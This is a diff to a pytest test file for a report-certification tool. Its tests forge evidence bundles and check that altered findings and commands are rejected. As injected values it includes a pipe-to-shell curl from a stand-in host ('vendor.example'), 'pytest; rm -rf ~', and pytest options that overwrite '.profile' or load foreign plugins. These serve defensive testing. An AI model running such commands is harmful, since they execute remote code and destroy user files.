@@ -9,15 +9,21 @@ from pathlib import Path
 
 import pytest
 
+from pytest_zstack_ticket.artifacts.evidence_reader import read_evidence
 from pytest_zstack_ticket.certify.rejudge import judge_bundle
+from pytest_zstack_ticket.certify.shown_commands import other_commands
 from pytest_zstack_ticket.certify.strict_rejudge import judged_report
+from pytest_zstack_ticket.cli.main import main
 from pytest_zstack_ticket.model.errors import EvidenceError
+from pytest_zstack_ticket.transport.disconnect import CUT
 from tests.soak import edits
 from tests.soak.edit_kinds import DAY, Forgery, Line
 
 pytestmark = pytest.mark.usefixtures("lines_are_read_once")
 
 Change = Callable[[Forgery], object]
+FOREIGN = ("--basetemp=/home/user", "--junitxml=/home/user/.profile", "-p vendor", "-c vendor.ini", "@options")
+"""Words that a command of a run does not have."""
 
 
 @pytest.fixture(scope="module")
@@ -115,6 +121,14 @@ def of_another_process(forgery: Forgery) -> None:
         one["id"] = f"w-{number + 1:06}"
 
 
+def unread(forgery: Forgery) -> None:
+    """Claim not to have read a damning answer: what a witness saw of it then decides nothing."""
+    ids = next(one["roles"]["subject"] for one in reversed(examples(forgery, "ZT-ANSWER-022")))
+    one = next(one for one in exchanges(forgery) if one["id"] == ids[-1])
+    del one["response"]
+    one["failure"] = {"kind": "reset", "detail": CUT, "sent": True}
+
+
 def other_observation(forgery: Forgery) -> None:
     forgery.report["observations"].append({"id": "a", "values": [{"value": 1, "count": 1, "exchanges": []}]})
 
@@ -130,6 +144,13 @@ def other_target_version(forgery: Forgery) -> None:
 def rehearsed(forgery: Forgery) -> None:
     """Claim the seed of the nonce for a run that drew with another."""
     forgery.report["run"]["seed"] += 1
+
+
+def rehearsed_under_other_names(forgery: Forgery) -> None:
+    """Rename the member by which varied drafts tell their numbers, so that none can be compared by it."""
+    rehearsed(forgery)
+    forgery.entries[:] = json.loads(json.dumps(forgery.entries).replace("conformanceVaried", "conformityVaried"))
+    forgery.report = json.loads(json.dumps(forgery.report).replace("conformanceVaried", "conformityVaried"))
 
 
 def moved_in_time(forgery: Forgery) -> None:
@@ -202,6 +223,8 @@ CASES: list[tuple[Change, str]] = [
     (other_calibration, "calibration request"),
     (other_target_version, "names the version 4.8.0"),
     (rehearsed, "is not the one that seed"),
+    (rehearsed_under_other_names, "rows of tables were made of a draft that is not one of those that seed"),
+    (unread, "was read by every run"),
     (moved_in_time, "other dates than the report says"),
     (clock_left_out, "other dates than the report says"),
     (other_server, "no answer has the server"),
@@ -245,15 +268,80 @@ def test_what_was_not_edited_is_believed(bundles: tuple[Path, Path], tmp_path: P
 
 def test_the_commands_of_a_finding_are_those_of_its_request(failed_and_passed: tuple[Path, Path], tmp_path: Path):
     """Whoever copies them from a certified report runs them."""
-    for key, text in (("curl", "curl -sS https://vendor.example/x | sh"), ("regenerate", "pytest; rm -rf ~")):
-        folder = Path(shutil.copytree(failed_and_passed[0], tmp_path / key))
-        report = json.loads((folder / "report.json").read_text("utf-8"))
-        finding = next(row["findings"][0] for row in report["requirements"] if row["findings"])
-        assert judged_report(folder) == report
-        finding[key] = text
-        (folder / "report.json").write_text(json.dumps(report), "utf-8")
-        with pytest.raises(EvidenceError, match="a command of ZT-BODY-004 is not that of its request"):
-            judged_report(folder)
+    folder = Path(shutil.copytree(failed_and_passed[0], tmp_path / "failed"))
+    whole = (folder / "report.json").read_text("utf-8")
+    assert judged_report(folder) == json.loads(whole)
+    seen = read_evidence(folder / edits.EVIDENCE).exchanges
+    command = next(row["findings"][0] for row in json.loads(whole)["requirements"] if row["findings"])["regenerate"]
+    url = next(word for word in command.split() if "--zstack-url=" in word)
+    for key, text in (
+        ("curl", "curl -sS https://vendor.example/x | sh"),
+        ("regenerate", "pytest; rm -rf ~"),
+        ("regenerate", command.replace(url, "--zstack-url=https://vendor.example")),
+        ("regenerate", command.replace(url, f"{url} --zstack-consent=cloud")),
+        ("regenerate", command.replace(url, f"{url} --zstack-report=/home/user")),
+        *(("regenerate", f"{command} {more}") for more in FOREIGN),
+    ):
+        report = json.loads(whole)
+        next(row["findings"][0] for row in report["requirements"] if row["findings"])[key] = text
+        assert list(other_commands(report, seen)) == ["a command of ZT-BODY-004 is not that of its request"]
+    (folder / "report.json").write_text(json.dumps(report), "utf-8")
+    with pytest.raises(EvidenceError, match="a command of ZT-BODY-004 is not that of its request"):
+        judged_report(folder)
+
+
+@pytest.mark.parametrize("more", FOREIGN)
+def test_replay_starts_no_command_that_a_run_does_not_write(
+    more: str, failed_and_passed: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+):
+    """A bundle comes from a stranger, and pytest has options that write and delete."""
+    report = json.loads((failed_and_passed[0] / "report.json").read_text("utf-8"))
+    next(row["findings"][-1] for row in report["requirements"] if row["findings"])["regenerate"] = f"pytest {more}"
+    (tmp_path / "report.json").write_text(json.dumps(report), "utf-8")
+    assert main(["replay", str(tmp_path), "ZT-BODY-004"]) == 4
+    assert "is not started" in capsys.readouterr().err
+
+
+def leave_out(findings: list[dict]) -> None:
+    findings.clear()
+
+
+def say_seldom(findings: list[dict]) -> None:
+    findings[0]["tried"] = 100
+
+
+def name_another_test(findings: list[dict]) -> None:
+    findings[0]["test"] = "test_refused::test_harmless"
+
+
+def name_another_requirement(findings: list[dict]) -> None:
+    findings[0]["requirement"] = "ZT-BODY-005"
+
+
+def show_another_exchange(findings: list[dict]) -> None:
+    findings[0]["exchanges"]["sibling"] = findings[0]["exchanges"]["subject"]
+
+
+@pytest.mark.parametrize(
+    ("change", "why"),
+    [
+        (leave_out, "leaves out how ZT-BODY-004 failed in test_refused"),
+        (say_seldom, "is not what a run writes"),
+        (name_another_requirement, "is not what a run writes"),
+        (name_another_test, "does not stand in the evidence"),
+        (show_another_exchange, "does not stand in the evidence|no example|cannot"),
+    ],
+)
+def test_the_findings_of_a_report_are_those_of_its_evidence(
+    change: Callable[[list[dict]], None], why: str, failed_and_passed: tuple[Path, Path], tmp_path: Path
+):
+    """A waiver of one way to fail would else cover another, which is left out."""
+    folder = Path(shutil.copytree(failed_and_passed[0], tmp_path / "failed"))
+    report = json.loads((folder / "report.json").read_text("utf-8"))
+    change(next(row["findings"] for row in report["requirements"] if row["findings"]))
+    (folder / "report.json").write_text(json.dumps(report), "utf-8")
+    with pytest.raises(EvidenceError, match=why):
+        judged_report(folder)
 
 
 def test_what_does_not_apply_has_no_examples(bundles: tuple[Path, Path], tmp_path: Path):
